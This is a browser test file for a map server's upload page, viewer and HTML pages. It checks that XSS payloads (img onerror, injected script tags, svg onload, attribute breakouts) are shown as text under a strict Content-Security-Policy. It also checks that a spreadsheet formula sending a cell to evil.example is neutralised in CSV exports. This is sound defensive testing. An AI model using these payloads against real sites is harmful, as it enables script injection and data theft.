/**
 * Issue 10, "nothing a user types runs as code in someone else's browser": an editor-typed layer (title,
 * description, attribution, licence, keywords, legend labels, attribute names and values, the file name) full of
 * markup is uploaded through the upload page, then shown by every page: the upload page's job report, the viewer
 * (layer panel, legend, attribution, popup, search, summary) and the f=html pages. No script may run
 * (`window.__xss` stays undefined, no dialog opens), the markup must read as text, every HTML page must carry the
 * Content-Security-Policy, and the pages must work under it (no CSP violation reported). Debian's Chromium,
 * headless, every non-loopback request blocked; screenshots in test-output/.
 */
import { expect } from 'chai';
import fs from 'node:fs';
import path from 'node:path';
import type { Feature, Polygon } from 'geojson';
import { type Page, type Response as PageResponse } from 'playwright-core';
import { pointOnFeature } from '@turf/turf';
import { chromiumPath, requireTool } from '../support/environment.ts';
import { openClosedNetworkBrowser, screenshotDir, type ClosedNetworkBrowser } from '../support/browser.ts';
import { forEachBackend, type BackendName } from '../support/servers.ts';
import { call, dropUploadedLayer, tokenFor } from '../fixtures/upload/http.ts';

/** Markup that runs a script wherever it is parsed as HTML: each sets `window.__xss` or opens a dialog. */
const hostile = {
  img: '<img src=x onerror="window.__xss=1">',
  script: '"><script>window.__xss=1</script>',
  svg: "<svg onload=alert('xss')>",
  attr: "' onmouseover='window.__xss=1' x='",
};
const layerId = 'xss_probe';
const title = `Lớp thử ${hostile.img} tiêu đề`;
const titleVi = `Lớp thử độc ${hostile.script}`;
const attribution = `${hostile.script} Sở TN&MT https://example.org/nguon`;
const licence = `${hostile.svg} CC BY 4.0`;
const description = `${hostile.attr} mô tả ${hostile.img}`;
const keywords = [hostile.img, 'thử'];
/** Browsers send a file name's double quotes as %22 in a multipart header: this one has none. */
const fileName = '<img src=x onerror=window.__xss=1>.geojson';
const legendLabel = `${hostile.svg} nhóm A`;
const propertyName = '<b onmouseover=window.__xss=1>tên</b>';
/** A cell a spreadsheet program would run (it sends A1 to another site when the sheet opens). */
const formula = '=HYPERLINK("http://evil.example/?d="&A1,"xem")';

type TestWindow = Window & {
  __xss?: unknown;
  viewerStats: { ready: boolean; layers: string[] };
  viewerMap: import('leaflet').Map;
};

/** A square of `sideM` metres around a point, as a GeoJSON polygon. */
function square(lon: number, lat: number, sideM: number): Polygon {
  const dLat = sideM / 2 / 111_320;
  const dLon = dLat / Math.cos((lat * Math.PI) / 180);
  const ring = [
    [lon - dLon, lat - dLat],
    [lon + dLon, lat - dLat],
    [lon + dLon, lat + dLat],
    [lon - dLon, lat + dLat],
    [lon - dLon, lat - dLat],
  ];
  return { type: 'Polygon', coordinates: [ring] };
}

forEachBackend('hostile text in every page of a browser', (server, backend: BackendName) => {
  let page: Page;
  let browser: ClosedNetworkBrowser | undefined;
  let blocked: string[] = [];
  let pageErrors: string[] = [];
  const dialogs: string[] = [];
  const cspViolations: string[] = [];
  let admin = '';
  let centre: [number, number] = [0, 0];
  let step = 0;

  const shot = async (name: string) => {
    step++;
    await page.screenshot({
      path: path.join(screenshotDir, `xss-${backend}-${String(step).padStart(2, '0')}-${name}.png`),
      fullPage: true,
    });
  };

  /** Asserts that no injected script ran in the current page. */
  const noScriptRan = async () => {
    expect(await page.evaluate(() => (window as TestWindow).__xss), 'window.__xss').to.equal(undefined);
    expect(dialogs, 'dialogs opened').to.deep.equal([]);
  };

  /** Asserts the security headers of an HTML page. */
  const expectCsp = (res: PageResponse | null, what: string) => {
    expect(res, what).to.not.equal(null);
    const headers = res!.headers();
    expect(headers['content-type'], what).to.match(/^text\/html/);
    const csp = headers['content-security-policy'] ?? '';
    expect(csp, `${what}: CSP`).to.match(/(^|;)\s*script-src 'self'\s*(;|$)/);
    expect(csp, `${what}: CSP`).to.not.contain('unsafe-inline');
    expect(csp, `${what}: CSP`).to.match(/frame-ancestors 'none'/);
    expect(headers['x-content-type-options'], what).to.equal('nosniff');
    expect(headers['referrer-policy'], what).to.equal('same-origin');
  };

  before(async function () {
    requireTool(this, chromiumPath !== '', 'hostile text: browser tests', 'Chromium (apt-get install chromium)');
    this.timeout(60_000);
    await dropUploadedLayer(server(), layerId);
    admin = await tokenFor(server(), 'admin', `Quản trị ${hostile.img}`);
    const communes = (await (await fetch(`${server().url}/collections/admin_communes_2025/items?limit=1`)).json()) as {
      features: Feature[];
    };
    centre = pointOnFeature(communes.features[0]).geometry.coordinates as [number, number];
    browser = await openClosedNetworkBrowser({ width: 1400, height: 900 });
    ({ page, blocked, pageErrors } = browser);
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    page.on('console', (msg) => {
      if (/Content Security Policy/i.test(msg.text())) cspViolations.push(msg.text());
    });
  });

  after(async () => {
    await browser?.close();
    await dropUploadedLayer(server(), layerId);
  });

  it('shows the file name, metadata and job report of a hostile upload on the upload page as text', async function () {
    this.timeout(120_000);
    const res = await page.goto(`${server().url}/viewer/upload.html`);
    expectCsp(res, 'upload page');
    await page.locator('#token').fill(admin);
    await page.locator('#token-check').click();
    await page.waitForFunction(() => document.getElementById('token-status')!.dataset.role === 'admin');
    expect(await page.locator('#token-status').textContent()).to.contain(hostile.img);

    const [lon, lat] = centre;
    const features = [-1, 1].map((k, i) => ({
      type: 'Feature',
      properties: {
        loai: i === 0 ? hostile.img : hostile.script,
        ten: `${hostile.svg} thửa ${i}`,
        [propertyName]: hostile.attr,
        so: -5 - i,
        cong_thuc: formula,
      },
      geometry: square(lon + k * 0.0006, lat, 50),
    }));
    const geojson = JSON.stringify({ type: 'FeatureCollection', features });
    await page.locator('#file').setInputFiles({ name: fileName, mimeType: 'application/geo+json', buffer: Buffer.from(geojson) });
    await page.locator('#layer-id').fill(layerId);
    await page.locator('#title-vi').fill(titleVi);
    await page.locator('#title').fill(title);
    await page.locator('#description').fill(description);
    await page.locator('#licence').fill(licence);
    await page.locator('#attribution').fill(attribution);
    await page.locator('#upload-button').click();
    await page.locator('#job-status[data-status="published"]').waitFor({ timeout: 90_000 });
    await shot('upload-report');
    const report = (await page.locator('#job').textContent())!;
    expect(report).to.contain(fileName);
    expect(await page.locator('#job img, #job script, #job svg').count()).to.equal(0);
    await noScriptRan();

    // Keywords and a categorical legend with hostile labels are set through the admin API.
    const patch = await call(server(), admin, 'PATCH', `/admin/layers/${layerId}`, {
      keywords,
      style: {
        type: 'categorical',
        property: 'loai',
        categories: [
          { value: hostile.img, color: '#d62728', label: { en: legendLabel, vi: legendLabel } },
          { value: hostile.script, color: '#1f77b4', label: { en: hostile.img, vi: hostile.img } },
        ],
        labelProperty: 'ten',
      },
    });
    expect(patch.status, await patch.clone().text()).to.equal(200);
  });

  it('shows the hostile layer in the viewer as text: panel, legend, attribution, popup, search and summary', async function () {
    this.timeout(120_000);
    const [lon, lat] = centre;
    const res = await page.goto(`${server().url}/viewer/#map=17/${lat}/${lon}&layers=${layerId},admin_communes`);
    expectCsp(res, 'viewer');
    await page.waitForFunction(() => (window as TestWindow).viewerStats?.ready, null, { timeout: 30_000 });
    expect(await page.evaluate(() => (window as TestWindow).viewerStats.layers)).to.include(layerId);

    const row = page.locator(`#layer-panel li[data-layer="${layerId}"]`);
    expect(await row.locator('label').textContent()).to.contain(hostile.script); // title_vi: the page is in Vietnamese
    expect(await row.locator('label').getAttribute('title')).to.equal(description);
    expect(await row.locator('.legend').textContent()).to.contain(legendLabel);
    expect(await row.locator('.legend').textContent()).to.contain(hostile.img);
    const attributionBox = page.locator('.leaflet-control-attribution');
    await page.waitForFunction(
      (s) => document.querySelector('.leaflet-control-attribution')?.textContent?.includes(s),
      hostile.script,
    );
    expect(await attributionBox.locator('a', { hasText: 'example.org' }).getAttribute('href')).to.equal(
      'https://example.org/nguon',
    );
    const injected =
      '#layer-panel img, #layer-panel script, #layer-panel svg, .leaflet-control-attribution script, .leaflet-control-attribution img';
    expect(await page.locator(injected).count()).to.equal(0);

    // The popup of the feature at the centre.
    await page.waitForTimeout(1000);
    const box = (await page.locator('#map').boundingBox())!;
    const p = await page.evaluate(
      ([la, lo]) => (window as TestWindow).viewerMap.latLngToContainerPoint([la, lo]),
      [lat, lon + 0.0006],
    );
    await page.mouse.click(box.x + p.x, box.y + p.y);
    const section = page.locator(`.leaflet-popup-content section[data-layer="${layerId}"]`);
    await section.waitFor({ timeout: 15_000 });
    await shot('popup');
    const popup = (await section.textContent())!;
    expect(popup).to.contain(hostile.script); // the title in the heading, and the `loai` value named by the legend
    expect(popup).to.contain(hostile.img); // the category label
    expect(popup).to.contain(hostile.svg); // `ten`
    expect(popup).to.contain(hostile.attr); // the value of the hostile attribute name
    expect(
      await page.locator('.leaflet-popup-content img, .leaflet-popup-content script, .leaflet-popup-content svg').count(),
    ).to.equal(0);
    await page.evaluate(() => (window as TestWindow).viewerMap.closePopup());

    // Search finds the layer by its title and lists it as text.
    await page.locator('#search-input').fill('Lớp thử');
    const option = page.locator('#search-results li[role="option"]', { hasText: 'Lớp thử' }).first();
    await option.waitFor({ timeout: 10_000 });
    await shot('search');
    expect(await page.locator('#search-results').textContent()).to.contain(hostile.script);
    expect(await page.locator('#search-results img, #search-results script').count()).to.equal(0);
    await page.locator('#search-input').fill('');
    await page.keyboard.press('Escape');

    // The summary of the commune under the centre: the bars are labelled by the hostile legend labels.
    await page.evaluate(([la, lo]) => (window as TestWindow).viewerMap.setView([la, lo], 15, { animate: false }), [lat, lon]);
    await page.locator('[data-tool="pick"]').click();
    const c = await page.evaluate(([la, lo]) => (window as TestWindow).viewerMap.latLngToContainerPoint([la, lo]), [lat, lon]);
    await page.mouse.click(box.x + c.x, box.y + c.y);
    const summary = page.locator(`#summary-panel section[data-layer="${layerId}"]`);
    await summary.locator('.totals').waitFor({ timeout: 30_000 });
    await shot('summary');
    const summaryText = (await summary.textContent())!;
    expect(summaryText).to.contain(hostile.script);
    expect(await summary.locator('svg.chart').textContent()).to.contain('<');
    expect(await page.locator('#summary-panel img, #summary-panel script, #summary-panel foreignObject').count()).to.equal(0);

    // Grouped by the formula column, the summary's CSV download holds the formula as quoted text.
    await summary.locator(`#groupby-0-${layerId}`).selectOption('cong_thuc');
    const chart = `#summary-panel section[data-layer="${layerId}"] svg.chart`;
    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.includes('=HYPERLINK'), chart);
    const [download] = await Promise.all([page.waitForEvent('download'), summary.locator('button.csv').click()]);
    const csv = fs.readFileSync((await download.path())!, 'utf8');
    expect(csv).to.contain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""xem"")"`);
    expect(
      csv
        .split('\r\n')
        .slice(1)
        .some((line) => line.startsWith('=')),
    ).to.equal(false);
    await noScriptRan();
  });

  it('escapes every value in the f=html pages, and sends them with the Content-Security-Policy', async function () {
    this.timeout(60_000);
    const pages: Array<[string, string[]]> = [
      ['/?f=html', []],
      ['/collections?f=html', [title, titleVi]],
      [`/collections/${layerId}?f=html`, [title, titleVi, description, attribution, licence, hostile.img]],
      [`/collections/${layerId}/items?f=html`, [title, hostile.img, hostile.script, hostile.attr]],
    ];
    const items = (await (await fetch(`${server().url}/collections/${layerId}/items?limit=1`)).json()) as { features: Feature[] };
    pages.push([`/collections/${layerId}/items/${items.features[0].id}?f=html`, [title, hostile.attr, hostile.svg]]);
    for (const [url, texts] of pages) {
      const res = await page.goto(`${server().url}${url}`);
      expectCsp(res, url);
      const body = (await page.locator('body').textContent())!;
      for (const t of texts) expect(body, `${url} shows ${t}`).to.contain(t);
      expect(await page.locator('body img, body script, body svg').count(), url).to.equal(0);
      await noScriptRan();
    }
    await shot('items-html');
  });

  it('writes formula-like values into items f=csv as text, and negative numbers as numbers', async () => {
    const res = await fetch(`${server().url}/collections/${layerId}/items?f=csv&properties=so,cong_thuc`);
    expect(res.status).to.equal(200);
    const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).to.equal('id,so,cong_thuc,geometry');
    const cells = lines.slice(1, 3).map((l) => l.split(',"POLYGON')[0]);
    for (const c of cells) expect(c).to.match(/^\d+,-[56],"'=HYPERLINK\(""http:\/\/evil\.example\/\?d=""&A1,""xem""\)"$/);
  });

  it('ran no injected script, and the pages needed nothing the CSP forbids', () => {
    expect(dialogs).to.deep.equal([]);
    expect(cspViolations).to.deep.equal([]);
    expect(blocked).to.deep.equal([]);
    expect(pageErrors).to.deep.equal([]);
  });
});
